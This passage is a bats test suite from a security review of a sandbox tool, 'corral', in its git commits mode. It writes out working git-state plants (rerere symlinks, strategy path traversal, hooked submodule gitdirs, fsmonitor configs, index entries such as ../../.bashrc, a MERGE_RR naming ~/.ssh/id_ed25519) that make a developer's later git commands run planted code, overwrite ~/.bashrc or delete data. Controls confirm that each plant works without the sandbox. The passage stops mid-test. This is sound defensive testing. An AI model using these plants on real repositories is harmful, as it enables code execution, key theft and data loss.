#!/usr/bin/env bats
# Attacks on --git commits found by a review of the code (2026-12-02): each
# runs the attack with corral and asserts, from outside, that the
# developer's git did not act on what the command planted; the controls show
# that each works without corral. Two are known limits (a git command run by
# the developer WHILE a commits run lasts): they skip, saying so
# (docs/design.md, "Git in commits mode").

load helpers
load gitcommits

# ---------------------------------------------------------------------------
# 1. rerere: MERGE_RR (writable, top of the gitdir) names paths, rr-cache/
#    (writable, unchecked) may hold links. rerere is on as soon as rr-cache/
#    exists, and git commit runs it.

RR_WRITE='H=0123456789abcdef0123456789abcdef01234567
	mkdir -p .git/rr-cache/$H
	ln -s "$HOME/.bashrc" .git/rr-cache/$H/preimage
	printf "touch %s\n<<<<<<< a\nx\n=======\ny\n>>>>>>> b\n" "$MARK" > conflict.txt
	printf "$H\tconflict.txt\0" > .git/MERGE_RR'

@test "commits attack: a MERGE_RR and an rr-cache link make the developer's git commit write the command's text into ~/.bashrc" {
	cp "$FAKEHOME/.bashrc" "$T/bashrc.before"
	run gc "$RR_WRITE"
	assert_output_has SB-END
	cmp -s "$T/bashrc.before" "$FAKEHOME/.bashrc" || fail "the sandbox itself changed ~/.bashrc"
	dev_git "$WS" commit -q --allow-empty -m after > /dev/null 2>&1 || true
	cmp -s "$T/bashrc.before" "$FAKEHOME/.bashrc" ||
		fail "the developer's git commit wrote into ~/.bashrc through .git/rr-cache: $(head -3 "$FAKEHOME/.bashrc")"
}

@test "control: rerere writes through an rr-cache link on the developer's git commit" {
	cp "$FAKEHOME/.bashrc" "$T/bashrc.before"
	plain "HOME=$FAKEHOME; $RR_WRITE"
	dev_git "$WS" commit -q --allow-empty -m after > /dev/null 2>&1 || true
	! cmp -s "$T/bashrc.before" "$FAKEHOME/.bashrc" || fail "control: ~/.bashrc unchanged"
	bash "$FAKEHOME/.bashrc" > /dev/null 2>&1 || true
	[ -e "$MARK" ] || fail "control: the planted line did not run"
}

RR_READ='H=1111111111111111111111111111111111111111
	mkdir -p .git/rr-cache/$H
	: > .git/rr-cache/$H/preimage
	printf "$H\t$HOME/.ssh/id_ed25519\0" > .git/MERGE_RR'

@test "commits attack: a MERGE_RR naming ~/.ssh/id_ed25519 makes the developer's git commit copy it where the next run reads it" {
	run gc "must_fail 'cat \$HOME/.ssh/id_ed25519'
		$RR_READ"
	assert_output_has SB-END
	refute_output_has ESCAPE
	dev_git "$WS" commit -q --allow-empty -m after > /dev/null 2>&1 || true
	run gc 'cat .git/rr-cache/*/postimage 2>/dev/null'
	refute_output_has CORRAL-SECRET-id_ed25519
}

# ---------------------------------------------------------------------------
# 2. A merge strategy in the rebase or cherry-pick state: git runs
#    "git merge-<strategy>", a path when it has a slash.

@test "commits attack: rebase-merge/strategy (todo only picks, so kept) runs a program on the developer's git rebase --continue" {
	printf 'a\n' > "$WS/a"; dev_git "$WS" add a; dev_git "$WS" commit -qm A
	printf 'b\n' > "$WS/b"; dev_git "$WS" add b; dev_git "$WS" commit -qm B
	run gc 'B=$(git rev-parse HEAD)
		GIT_SEQUENCE_EDITOR="printf \"break\\npick $B\\n\" >" git rebase -q -i HEAD~2 > /dev/null 2>&1
		[ -d .git/rebase-merge ] && echo STOPPED
		mkdir git-merge-x; hook_text > evil; chmod +x evil
		echo "x/../evil" > .git/rebase-merge/strategy'
	assert_output_has STOPPED
	assert_output_has SB-END
	[ ! -e "$MARK" ] || fail "ran inside already"
	GIT_EDITOR=true dev_git "$WS" rebase --continue > /dev/null 2>&1 || true
	[ ! -e "$MARK" ] || fail "the developer's git rebase --continue ran the command's program: $(cat "$MARK")"
}

@test "commits attack: sequencer/opts options.strategy runs a program on the developer's git cherry-pick --continue" {
	run gc 'git checkout -q -b src; echo a > a; git add a; git commit -qm A; echo b > b; git add b; git commit -qm B
		git checkout -q main; echo conflict > a; git add a; git commit -qm C
		git cherry-pick src~1 src > /dev/null 2>&1
		[ -d .git/sequencer ] && echo STOPPED
		echo resolved > a; git add a
		mkdir git-merge-x; hook_text > evil; chmod +x evil
		git config -f .git/sequencer/opts options.strategy x/../evil'
	assert_output_has STOPPED
	assert_output_has SB-END
	GIT_EDITOR=true dev_git "$WS" cherry-pick --continue > /dev/null 2>&1 || true
	[ ! -e "$MARK" ] || fail "the developer's git cherry-pick --continue ran the command's program: $(cat "$MARK")"
}

@test "control: a strategy in sequencer/opts runs on git cherry-pick --continue" {
	plain 'git checkout -q -b src; echo a > a; git add a; git commit -qm A; echo b > b; git add b; git commit -qm B
		git checkout -q main; echo conflict > a; git add a; git commit -qm C
		git cherry-pick src~1 src > /dev/null 2>&1
		echo resolved > a; git add a
		mkdir git-merge-x; hook_text > evil; chmod +x evil
		git config -f .git/sequencer/opts options.strategy x/../evil'
	GIT_EDITOR=true dev_git "$WS" cherry-pick --continue > /dev/null 2>&1 || true
	[ -e "$MARK" ] || fail "control: nothing ran"
}

# ---------------------------------------------------------------------------
# 3. rebase-apply/apply-opt: only "unsafe-paths" is refused (which git am
#    neutralises anyway: it applies with --index); --build-fake-ancestor=FILE
#    makes git apply write an index file to FILE.

@test "commits attack: apply-opt --build-fake-ancestor makes the developer's git am --continue overwrite ~/.bashrc" {
	cp "$FAKEHOME/.bashrc" "$T/bashrc.before"
	run gc 'echo 1 > g; git add g; git commit -qm g1; echo 2 > g; git commit -qam g2; echo 3 > h; git add h; git commit -qm h3
		git format-patch -q -2 -o "$PWD/p"; git reset -q --hard HEAD~2; echo X > g; git commit -qam conflict
		git am p/*.patch > /dev/null 2>&1; [ -d .git/rebase-apply ] && echo STOPPED
		echo 2 > g; git add g
		echo "'"'"'--build-fake-ancestor=$HOME/.bashrc'"'"'" > .git/rebase-apply/apply-opt'
	assert_output_has STOPPED
	assert_output_has SB-END
	cmp -s "$T/bashrc.before" "$FAKEHOME/.bashrc" || fail "the sandbox itself changed ~/.bashrc"
	GIT_EDITOR=true dev_git "$WS" am --continue > /dev/null 2>&1 || true
	cmp -s "$T/bashrc.before" "$FAKEHOME/.bashrc" ||
		fail "the developer's git am --continue overwrote ~/.bashrc: $(head -c 4 "$FAKEHOME/.bashrc")"
}

# ---------------------------------------------------------------------------
# 4. A new .git/modules/NAME (modules/ is writable) with a hook: the
#    developer's git submodule update --init adopts the existing gitdir and
#    runs its post-checkout. The gitlink's directory has no .git, so the
#    after-run check passes it.

MOD_PLANT='git init -q --bare .git/modules/lib
	git config -f .git/modules/lib/config core.bare false
	C=$(git --git-dir=.git/modules/lib commit-tree -m lib $(git --git-dir=.git/modules/lib mktree < /dev/null))
	git --git-dir=.git/modules/lib update-ref refs/heads/main $C
	hook_text > .git/modules/lib/hooks/post-checkout; chmod +x .git/modules/lib/hooks/post-checkout
	git config -f .gitmodules submodule.lib.path lib
	git config -f .gitmodules submodule.lib.url https://example.invalid/lib.git
	git update-index --add --cacheinfo 160000,$C,lib
	git add .gitmodules; git commit -qm "add lib" && echo ADDED'

@test "commits attack: a gitdir planted in .git/modules runs its hook on the developer's git submodule update --init" {
	run gc "$MOD_PLANT"
	assert_output_has ADDED
	assert_output_has SB-END
	dev_git "$WS" submodule update --init > /dev/null 2>&1 || true
	[ ! -e "$MARK" ] || fail "the developer's git submodule update ran a hook the command planted: $(cat "$MARK")"
}

@test "control: a gitdir planted in .git/modules runs its hook on git submodule update --init" {
	plain "$MOD_PLANT"
	dev_git "$WS" submodule update --init > /dev/null 2>&1 || true
	[ -e "$MARK" ] || fail "control: nothing ran"
}

# The same below a directory of modules/ that was there before the run: the
# developer's submodule lib/a keeps its gitdir in .git/modules/lib/a, and the
# command plants .git/modules/lib/evil for a submodule it names lib/evil.

MOD_DEEP_BEFORE='git init -q --bare "$WS/.git/modules/lib/a"'
MOD_DEEP_PLANT="${MOD_PLANT//modules\/lib/modules/lib/evil}"
MOD_DEEP_PLANT="${MOD_DEEP_PLANT//submodule.lib./submodule.lib/evil.}"

@test "commits attack: a gitdir planted below an existing directory of .git/modules runs its hook on git submodule update --init" {
	eval "$MOD_DEEP_BEFORE"
	run gc "$MOD_DEEP_PLANT"
	assert_output_has ADDED
	assert_output_has SB-END
	dev_git "$WS" submodule update --init > /dev/null 2>&1 || true
	[ ! -e "$MARK" ] || fail "the developer's git submodule update ran a hook the command planted: $(cat "$MARK")"
}

@test "control: a gitdir planted below an existing directory of .git/modules runs its hook on git submodule update --init" {
	eval "$MOD_DEEP_BEFORE"
	plain "$MOD_DEEP_PLANT"
	dev_git "$WS" submodule update --init > /dev/null 2>&1 || true
	[ -e "$MARK" ] || fail "control: nothing ran"
}

# ---------------------------------------------------------------------------
# 5. A link in .git/worktrees/ (writable, unchecked): git worktree prune, run
#    by git gc and by the auto gc of an ordinary git commit, removes
#    everything in the directory it points to.

WT_PLANT='mkdir -p .git/worktrees; ln -s "$OTHER/victim" .git/worktrees/x
	B=$(echo junk | git hash-object -w --stdin); mkdir -p .git/objects/17
	for i in $(seq 1 30); do cp .git/objects/${B:0:2}/${B:2} .git/objects/17/$(printf "%038d" $i); done'

@test "commits attack: a link in .git/worktrees makes the developer's git commit (auto gc) empty a directory outside" {
	mkdir -p "$OTHER/victim"
	printf 'precious\n' > "$OTHER/victim/data"
	run gc "$WT_PLANT"
	assert_output_has SB-END
	[ -e "$OTHER/victim/data" ] || fail "the sandbox itself removed it"
	dev_git "$WS" -c gc.autoDetach=false commit -q --allow-empty -m after > /dev/null 2>&1 || true
	[ -e "$OTHER/victim/data" ] || fail "the developer's git commit (auto gc, worktree prune) removed $OTHER/victim/data"
}

@test "control: a link in .git/worktrees makes git commit (auto gc) empty the directory it names" {
	mkdir -p "$OTHER/victim"
	printf 'precious\n' > "$OTHER/victim/data"
	plain "$WT_PLANT"
	dev_git "$WS" -c gc.autoDetach=false commit -q --allow-empty -m after > /dev/null 2>&1 || true
	[ ! -e "$OTHER/victim/data" ] || fail "control: still there"
}

# ---------------------------------------------------------------------------
# 6. corral's own after-run check (check_gitlinks) follows a gitlink's path
#    through a link the command made, and renames what it finds.

@test "commits attack: a gitlink through a symlink makes corral rename the .git of a repository outside the writable roots" {
	new_repo "$OTHER/victim"
	run gc 'ln -s "$OTHER/victim" lnk
		git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),lnk && echo ADDED'
	assert_output_has ADDED
	assert_output_has SB-END
	[ -d "$OTHER/victim/.git" ] || fail "corral renamed $OTHER/victim/.git (outside every writable root): $(ls -a "$OTHER/victim")"
}

@test "commits attack: a gitlink through a link to . makes corral set the workspace's own .git aside" {
	run gc 'ln -s . self
		git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),self && echo ADDED'
	assert_output_has ADDED
	[ -d "$WS/.git" ] || fail "corral renamed the workspace's .git: $(ls -a "$WS")"
}

# The same, with a second run of the command still running: once corral
# has renamed .git on the host, the name is free in that run's namespace
# too, and it makes a new .git with a core.fsmonitor.
@test "commits attack concurrent: after corral set .git aside, a still running run makes a new .git whose fsmonitor runs in the developer's git status" {
	bg "$CORRAL" run --git commits -- env HOME="$HOME" MARK="$MARK" bash -c '
		printf "#!/bin/sh\necho \"\$0\" >> %s\n" "$MARK" > x.sh; chmod +x x.sh
		touch ready
		for i in $(seq 1 200); do [ -e .git/HEAD ] || break; sleep 0.1; done
		[ -e .git/HEAD ] && { echo STILL; exit 0; }
		g=$(ls -d .git.corral-refused-* | head -1)
		cp -r "$g" .git 2> cp.err; rm -f .git/commondir
		git config core.fsmonitor "$PWD/x.sh" && echo PLANTED' > "$T/b.out" 2>&1
	local bpid=$BG_PID
	wait_for_file "$WS/ready" 100
	run gc 'ln -s . self
		git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),self && echo ADDED'
	assert_output_has ADDED
	wait "$bpid" || true
	cat "$T/b.out" >&2
	[ ! -e "$MARK" ] || fail "ran before the developer's git did"
	touch "$WS/f.txt"
	dev_git "$WS" status > /dev/null 2>&1 || true
	[ ! -e "$MARK" ] || fail "the developer's git status ran the fsmonitor of a .git made by the command: $(cat "$MARK")"
}

# ---------------------------------------------------------------------------
# 7. The index is writable and corral reads only its gitlinks. git trusts the
#    paths of its own index: git checkout -- . and git restore . write each
#    entry's blob at its path, "../../.bashrc" or ".git/hooks/post-commit"
#    included.

# idx_plant PATH CONTENT: an index entry for PATH with CONTENT (git refuses
# such a path itself; the command writes the index's bytes).
IDX_PLANT='idx_plant() {
		local b fake; b=$(printf "%s" "$2" | git hash-object -w --stdin)
		fake=$(printf "%s" "$1" | tr "./" "zz" | sed "s/^z/q/")
		git update-index --add --cacheinfo 100755,$b,"$fake"
		python3 -c "import hashlib,sys
p=\".git/index\"; d=open(p,\"rb\").read()[:-20]
d=d.replace(sys.argv[1].encode(), sys.argv[2].encode())
open(p,\"wb\").write(d+hashlib.sha1(d).digest())" "$fake" "$1"
	}'

@test "commits attack: an index entry ../../.bashrc makes the developer's git checkout -- . write ~/.bashrc" {
	cp "$FAKEHOME/.bashrc" "$T/bashrc.before"
	run gc "$IDX_PLANT"'
		idx_plant ../../.bashrc "touch $MARK
"
		git ls-files | grep -q bashrc && echo PLANTED'
	assert_output_has PLANTED
	assert_output_has SB-END
	cmp -s "$T/bashrc.before" "$FAKEHOME/.bashrc" || fail "the sandbox itself changed ~/.bashrc"
	dev_git "$WS" checkout -- . > /dev/null 2>&1 || true
	cmp -s "$T/bashrc.before" "$FAKEHOME/.bashrc" ||
		fail "the developer's git checkout -- . wrote ~/.bashrc: $(cat "$FAKEHOME/.bashrc")"
}

@test "commits attack: an index entry .git/hooks/post-commit makes the developer's git restore . plant a hook, run by the next commit" {
	run gc "$IDX_PLANT"'
		hook_text > h
		idx_plant .git/hooks/post-commit "$(cat h)
"
		git ls-files | grep -q post-commit && echo PLANTED'
	assert_output_has PLANTED
	assert_output_has SB-END
	dev_git "$WS" restore . > /dev/null 2>&1 || true
	dev_git "$WS" commit -q --allow-empty -m after > /dev/null 2>&1 || true
	[ ! -e "$MARK" ] || fail "the developer's git ran a hook the command put in the index: $(cat "$MARK")"
}

@test "control: an index entry ../../.bashrc is written by git checkout -- ." {
	cp "$FAKEHOME/.bashrc" "$T/bashrc.before"
	plain "$IDX_PLANT"'
		idx_plant ../../.bashrc "touch $MARK
"'
	dev_git "$WS" checkout -- . > /dev/null 2>&1 || true
	! cmp -s "$T/bashrc.before" "$FAKEHOME/.bashrc" || fail "control: unchanged"
}

# Protected names staged or committed by the command (the scripts: gitcommits.bash).
@test "commits attack: .vscode/tasks.json and .claude/settings.json staged by the command are not written by the developer's git checkout -- ." {
	backend_is userns || backend_is users || skip "userns and users backends"
	run gc "$STAGE_PROTECTED"
	assert_output_has STAGED
	assert_output_has SB-END
	assert_output_has "an index naming .claude/settings.json, under a protected name"
	dev_git "$WS" checkout -- . > /dev/null 2>&1 || true
	[ ! -e "$WS/.vscode/tasks.json" ] && [ ! -e "$WS/.claude/settings.json" ] ||
		fail "the developer's git checkout -- . wrote a protected name the command staged: $(ls -la "$WS/.vscode" "$WS/.claude" 2>&1)"
}

@test "control: a .vscode/tasks.json staged in the index is written by git checkout -- ." {
	plain "$STAGE_PROTECTED" | grep -q STAGED || fail "control: not staged"
	dev_git "$WS" checkout -- . > /dev/null 2>&1 || true
	[ -e "$WS/.vscode/tasks.json" ] || fail "control: not written"
}

@test "commits attack: a branch, HEAD or stash whose tree adds .vscode/tasks.json is not imported; the developer's checkout writes nothing" {
	backend_is userns || skip "the refs are checked on import (userns); in place (users): gitinplace.bats"
	run gc "$COMMIT_PROTECTED"
	assert_output_has COMMITTED
	assert_output_has SB-END
	assert_output_has "it points at a commit whose tree adds or changes a protected name"
	dev_git "$WS" checkout -q agent > /dev/null 2>&1 || true
	dev_git "$WS" stash pop -q > /dev/null 2>&1 || true
	dev_git "$WS" reset -q --hard > /dev/null 2>&1 || true
	[ ! -e "$WS/.vscode/tasks.json" ] && [ ! -e "$WS/.claude/settings.json" ] ||
		fail "the developer's git wrote a protected name the command committed"
}

@test "control: a branch whose tree holds .vscode/tasks.json writes it at the developer's checkout" {
	plain "$COMMIT_PROTECTED" | grep -q COMMITTED || fail "control: not committed"
	dev_git "$WS" checkout -q agent > /dev/null 2>&1 || true
	[ -e "$WS/.vscode/tasks.json" ] || fail "control: not written"
}

@test "commits attack: a stash adding .vscode/tasks.json comes back through neither refs/stash nor the stash list (its reflog)" {
	backend_is userns || skip "the refs and reflogs are checked on import (userns); in place (users): gitinplace.bats"
	printf 'wip\n' >> "$WS/f.txt" && dev_git "$WS" stash -q
	run gc "$STASH_PROTECTED"
	assert_output_has STASHED
	assert_output_has SB-END
	[ "$(dev_git "$WS" stash list | grep -c .)" = 1 ] || fail "the command's stash is in the developer's stash list"
	dev_git "$WS" stash pop -q > /dev/null 2>&1 || true
	[ ! -e "$WS/.vscode/tasks.json" ] || fail "the developer's git stash pop wrote .vscode/tasks.json"
}

@test "control: a stash adding .vscode/tasks.json is applied by the developer's git stash pop" {
	printf 'wip\n' >> "$WS/f.txt" && dev_git "$WS" stash -q
	plain "$STASH_PROTECTED" | grep -q STASHED || fail "control: not stashed"
	dev_git "$WS" stash pop -q > /dev/null 2>&1 || true
	[ -e "$WS/.vscode/tasks.json" ] || fail "control: not written"
}

@test "commits attack: a commit adding .vscode/tasks.json below one that removes it is not imported; the developer's revert or checkout writes nothing" {
	backend_is userns || skip "the refs are checked on import (userns); in place (users): gitinplace.bats"
	local before; before=$(dev_git "$WS" rev-parse HEAD)
	run gc "$BURIED_PROTECTED"
	assert_output_has COMMITTED
	assert_output_has SB-END
	assert_output_has "it points at a commit below which commit"
	[ "$(dev_git "$WS" rev-parse HEAD)" = "$before" ] || fail "the run's HEAD was imported"
	! dev_git "$WS" rev-parse -q --verify agent > /dev/null || fail "the run's branch agent was imported"
	dev_git "$WS" revert --no-edit HEAD > /dev/null 2>&1 || true
	dev_git "$WS" checkout -q HEAD~1 > /dev/null 2>&1 || true
	[ ! -e "$WS/.vscode/tasks.json" ] && [ ! -e "$WS/.claude/settings.json" ] ||
		fail "the developer's git wrote a protected name the command committed below its tip"
}

@test "control: a commit adding .vscode/tasks.json below one that removes it is written by git revert HEAD" {
	plain "$BURIED_PROTECTED" | grep -q COMMITTED || fail "control: not committed"
	[ ! -e "$WS/.vscode/tasks.json" ] || fail "control: the tip's worktree holds it already"
	dev_git "$WS" revert --no-edit HEAD > /dev/null 2>&1 || true
	[ -e "$WS/.vscode/tasks.json" ] || fail "control: not written"
}

@test "commits attack: a stash reflog line in upper case, a checkout message and FETCH_HEAD naming the command's commit are not imported" {
	backend_is userns || skip "the import (userns); in place (users): gitinplace.bats"
	printf 'wip\n' >> "$WS/f.txt" && dev_git "$WS" stash -q
	BASE=$(dev_git "$WS" rev-parse HEAD)
	run gc "$FORGED_ENTRIES"
	assert_output_has FORGED
	assert_output_has SB-END
	local taken; taken=$(forged_takers)
	[ -z "$taken" ] || fail "the developer's git wrote a protected name through:$taken"
}

@test "control: a stash reflog line, a checkout message and FETCH_HEAD give the command's commit to stash pop, checkout - and merge" {
	printf 'wip\n' >> "$WS/f.txt" && dev_git "$WS" stash -q
	BASE=$(dev_git "$WS" rev-parse HEAD)
	plain "$FORGED_ENTRIES" | grep -q FORGED || fail "control: not forged"
	local taken; taken=$(forged_takers)
	[ "$taken" = " [checkout -q -] [stash pop -q] [merge -q --no-edit FETCH_HEAD] [checkout -q FETCH_HEAD]" ] ||
		fail "control: only$taken wrote it"
}

@test "commits attack: trees git would not write (an entry named .vscode/tasks.json, entries out of order) are not imported; the developer's checkout writes nothing" {
	backend_is userns || skip "the import (userns); in place (users): gitinplace.bats"
	run gc "$TREE_FORGED"
	assert_output_has FORGED
	assert_output_has SB-END
	assert_output_has "a loose tree"
	local taken; taken=$(tree_takers)
	[ -z "$taken" ] || fail "the developer's git checkout wrote .vscode/tasks.json from:$taken"
}

@test "control: a tree with an entry named .vscode/tasks.json, or out of order, is written by git checkout" {
	plain "$TREE_FORGED" | grep -q FORGED || fail "control: not forged"
	local taken; taken=$(tree_takers)
	[ "$taken" = " [slash] [unsorted]" ] || fail "control: only$taken wrote it"
}

@test "commits attack: a checkout message naming COMMIT_EDITMSG that holds the command's commit, and a tab-less entry, are not imported" {
	backend_is userns || skip "the import (userns); in place (users): gitinplace.bats"
	run gc "$FORGED_ENTRIES2"
	assert_output_has FORGED
	assert_output_has SB-END
	local taken; taken=$(forged2_takers)
	[ -z "$taken" ] || fail "the developer's git wrote a protected name through:$taken"
}

@test "control: a checkout message naming COMMIT_EDITMSG, and a tab-less entry, give the command's commit to git checkout -" {
	plain "$FORGED_ENTRIES2" | grep -q FORGED || fail "control: not forged"
	local taken; taken=$(forged2_takers)
	[ "$taken" = " [checkout - via COMMIT_EDITMSG] [checkout - via a tab-less entry]" ] || fail "control: only$taken wrote it"
}

@test "commits: the developer's own history under protected names does not refuse the run's commits" {
	backend_is userns || skip "userns import"
	mkdir -p "$WS/.vscode" && printf '{"a":1}\n' > "$WS/.vscode/settings.json"
	dev_git "$WS" add .vscode/settings.json && dev_git "$WS" commit -q -m vscode
	printf '{"a":2}\n' > "$WS/.vscode/settings.json" && dev_git "$WS" commit -q -am vscode2
	dev_git "$WS" branch old HEAD~1
	run gc 'echo two > f.txt && git commit -q -am two && git merge -q --no-edit old 2>/dev/null; git log --oneline | grep -q two && echo COMMITTED'
	assert_output_has COMMITTED
	refute_output_has "under a protected name"
	[ "$(dev_git "$WS" log -1 --format=%s HEAD)" = two ] || fail "the run's commit was not imported: $output"
}

@test "commits: an index entry under a protected name that the developer's index holds as it is is imported with the rest" {
	backend_is userns || skip "userns import"
	mkdir -p "$WS/.vscode" && printf '{}\n' > "$WS/.vscode/settings.json"
	dev_git "$WS" add .vscode/settings.json && dev_git "$WS" commit -q -m vscode
	run gc 'echo two > f.txt && git commit -q -am two && echo COMMITTED'
	assert_output_has COMMITTED
	refute_output_has "under a protected name"
	[ -z "$(dev_git "$WS" status --porcelain -uno)" ] || fail "the run's index was not imported: $(dev_git "$WS" status --porcelain -uno)"
}

# The read-only default: every plant above fails.
@test "read-only default: the plants above all fail" {
	mkdir -p "$OTHER/victim"
	run sb "$IDX_PLANT"'
		must_fail "mkdir -p .git/rr-cache"
		must_fail "printf x > .git/MERGE_RR"
		must_fail "mkdir -p .git/worktrees"
		must_fail "git init -q --bare .git/modules/lib"
		must_fail "idx_plant ../../.bashrc x"
		must_fail "ln -s . self && git update-index --add --cacheinfo 160000,\$(git rev-parse HEAD),self"
		must_fail "mkdir .git/sequencer"'
	assert_output_has SB-END
	refute_output_has ESCAPE
	[ -d "$WS/.git" ] || fail "the workspace's .git was renamed"
}

# ---------------------------------------------------------------------------
# 8. During the run: the index is writable, so a gitlink the command adds
#    makes git status outside (an IDE polling it) enter a repository the
#    command made. The after-run check comes too late.
@test "commits attack concurrent: a submodule added during the run runs its fsmonitor in the developer's git status while the run lasts" {
	backend_is userns || skip "known limit on the users backend: a git command the developer runs in the repository while a --git commits run lasts can act on the command's state (docs/design.md, \"Git in commits mode\")"
	bg "$CORRAL" run --git commits -- env HOME="$HOME" MARK="$MARK" bash -c '
		printf "#!/bin/sh\necho \"\$0\" >> %s\n" "$MARK" > x.sh; chmod +x x.sh
		git init -q evil && git -C evil config core.fsmonitor "$PWD/x.sh"
		git -C evil commit -q --allow-empty -m e
		git add evil 2> /dev/null && touch ready
		for i in $(seq 1 100); do [ -e go ] && break; sleep 0.1; done' > "$T/b.out" 2>&1
	local bpid=$BG_PID
	wait_for_file "$WS/ready" 100
	[ ! -e "$MARK" ] || fail "ran before the developer's git did"
	touch "$WS/evil/new"
	dev_git "$WS" status > /dev/null 2>&1 || true
	touch "$WS/go"
	wait "$bpid" || true
	[ ! -e "$MARK" ] || fail "the developer's git status during the run ran the fsmonitor of a repository the command made: $(cat "$MARK")"
}

# ---------------------------------------------------------------------------
# 9. Links below the top of objects/ are not removed (the check reads only
#    objects/ itself): git gc writes the commit-graph through a lock file,
#    which follows a link.
@test "commits attack: a link at .git/objects/info/commit-graph makes the developer's git gc overwrite ~/.bashrc" {
	cp "$FAKEHOME/.bashrc" "$T/bashrc.before"
	run gc 'mkdir -p .git/objects/info; ln -s "$HOME/.bashrc" .git/objects/info/commit-graph
		must_fail "ln \$HOME/.bashrc hl"'
	assert_output_has SB-END
	refute_output_has ESCAPE
	cmp -s "$T/bashrc.before" "$FAKEHOME/.bashrc" || fail "the sandbox itself changed ~/.bashrc"
	dev_git "$WS" gc -q > /dev/null 2>&1 || true
	cmp -s "$T/bashrc.before" "$FAKEHOME/.bashrc" ||
		fail "the developer's git gc overwrote ~/.bashrc: $(head -c 4 "$FAKEHOME/.bashrc")"
}

# ---------------------------------------------------------------------------
# 10. The documented window (links at the top of the gitdir are removed only
#     after the run): an IDE's periodic git fetch during the run writes
#     FETCH_HEAD through the command's link.
@test "commits attack concurrent: a FETCH_HEAD link makes a git fetch outside during the run overwrite ~/.bashrc" {
	backend_is userns || skip "known limit on the users backend: a git command the developer runs in the repository while a --git commits run lasts can act on the command's state (docs/design.md, \"Git in commits mode\")"
	cp "$FAKEHOME/.bashrc" "$T/bashrc.before"
	bg "$CORRAL" run --git commits -- env HOME="$HOME" bash -c '
		rm -f .git/FETCH_HEAD; ln -s "$HOME/.bashrc" .git/FETCH_HEAD && touch ready
		for i in $(seq 1 100); do [ -e go ] && break; sleep 0.1; done' > "$T/b.out" 2>&1
	local bpid=$BG_PID
	wait_for_file "$WS/ready" 100
	dev_git "$WS" fetch -q "$WS" > /dev/null 2>&1 || true
	touch "$WS/go"
	wait "$bpid" || true
	cmp -s "$T/bashrc.before" "$FAKEHOME/.bashrc" ||
		fail "git fetch outside during the run wrote ~/.bashrc through .git/FETCH_HEAD: $(head -1 "$FAKEHOME/.bashrc")"
}

# ---------------------------------------------------------------------------
# 11. The after-run check sets state aside by rename to NAME.corral-refused-
#     <time(NULL)>: a non-empty directory already there for every second the
#     run may end in makes the rename fail; corral only warns, on the
#     command's stderr, and what it refused stays where git reads it.
@test "commits attack: pre-made .corral-refused-<time> directories keep an added submodule's .git in place; git status outside runs its fsmonitor" {
	run gc 'hook_text > x.sh; chmod +x x.sh
		git init -q evil && git -C evil config core.fsmonitor "$PWD/x.sh"
		git -C evil commit -q --allow-empty -m e
		now=$(date +%s); for t in $(seq $((now - 2)) $((now + 60))); do mkdir -p evil/.git.corral-refused-$t/x; done
		git add evil 2>/dev/null && git commit -qm "add evil" && echo ADDED'
	assert_output_has ADDED
	touch "$WS/evil/new"
	dev_git "$WS" status > /dev/null 2>&1 || true
	[ ! -e "$MARK" ] || fail "the developer's git status ran the fsmonitor of the submodule the command added: $(cat "$MARK")"
}

@test "commits attack: pre-made rebase-merge.corral-refused-<time> directories keep a todo with exec in place; git rebase --continue runs it" {
	dev_git "$WS" commit -q --allow-empty -m second
	run gc 'hook_text > x.sh; chmod +x x.sh
		GIT_SEQUENCE_EDITOR="sed -i 1ibreak" git rebase -q -i HEAD~1 2>/dev/null
		echo "exec $PWD/x.sh" > t; cat .git/rebase-merge/git-rebase-todo >> t; cp t .git/rebase-merge/git-rebase-todo
		now=$(date +%s); for t in $(seq $((now - 2)) $((now + 60))); do mkdir -p .git/rebase-merge.corral-refused-$t/x; done
		echo PLANTED'
	assert_output_has PLANTED
	GIT_EDITOR=true dev_git "$WS" rebase --continue > /dev/null 2>&1 || true
	[ ! -e "$MARK" ] || fail "the developer's git rebase --continue ran the exec line corral refused: $(cat "$MARK")"
}

# ---------------------------------------------------------------------------
# 12. A split index: the entries are in .git/sharedindex.<oid>, and "index"
#     holds only the changes and a link extension. corral reads only "index".
@test "commits attack: a submodule added through a split index is not set aside; git status outside runs its fsmonitor" {
	run gc 'hook_text > x.sh; chmod +x x.sh
		git init -q evil && git -C evil config core.fsmonitor "$PWD/x.sh"
		git -C evil commit -q --allow-empty -m e
		git add evil 2>/dev/null && git update-index --split-index && git commit -qm "add evil" && echo ADDED
		ls .git | grep sharedindex'
	assert_output_has ADDED
	refute_output_has "a submodule in"
	touch "$WS/evil/new"
	dev_git "$WS" status > /dev/null 2>&1 || true
	[ ! -e "$MARK" ] || fail "the developer's git status ran the fsmonitor of the submodule the command added: $(cat "$MARK")"
}

@test "read-only default: with a split index (core.splitIndex) runs are not refused, and a deep submodule in it stays protected" {
	new_repo "$OTHER/lib"
	dev_git "$WS" submodule -q add "$OTHER/lib" deep/a/b/lib
	dev_git "$WS" commit -qm "add sub"
	dev_git "$WS" update-index --split-index
	run sb 'printf "#!/bin/sh\necho \"\$0\" >> %s\n" "'"$MARK"'" > x.sh; chmod +x x.sh
		must_fail "git -C deep/a/b/lib config core.fsmonitor \$PWD/x.sh"
		must_fail "echo \"[core] fsmonitor = \$PWD/x.sh\" >> .git/modules/deep/a/b/lib/config"'
	assert_output_has SB-END
	refute_output_has ESCAPE
}

# ---------------------------------------------------------------------------
# 13. The after-run check compares the todo with what this run's plan saw.
#     A second run planned while the first had planted the todo sees it as
#     its starting point; the first run's check sets it aside, the second run
#     renames it back (same inode, same ctime: "unchanged"), and its check
#     passes it.
@test "commits attack concurrent: a second run moves a set-aside exec todo back; its own check sees it unchanged; git rebase --continue runs it" {
	dev_git "$WS" commit -q --allow-empty -m second
	bg "$CORRAL" run --git commits -- env HOME="$HOME" MARK="$MARK" bash -c '
		printf "#!/bin/sh\necho \"\$0\" >> %s\n" "$MARK" > x.sh; chmod +x x.sh
		GIT_SEQUENCE_EDITOR="sed -i 1ibreak" git rebase -q -i HEAD~1 2>/dev/null
		echo "exec $PWD/x.sh" > t; cat .git/rebase-merge/git-rebase-todo >> t; cp t .git/rebase-merge/git-rebase-todo
		touch planted
		for i in $(seq 1 100); do [ -e bready ] && break; sleep 0.1; done' > "$T/a.out" 2>&1
	local apid=$BG_PID
	wait_for_file "$WS/planted" 100
	bg "$CORRAL" run --git commits -- bash -c '
		touch bready
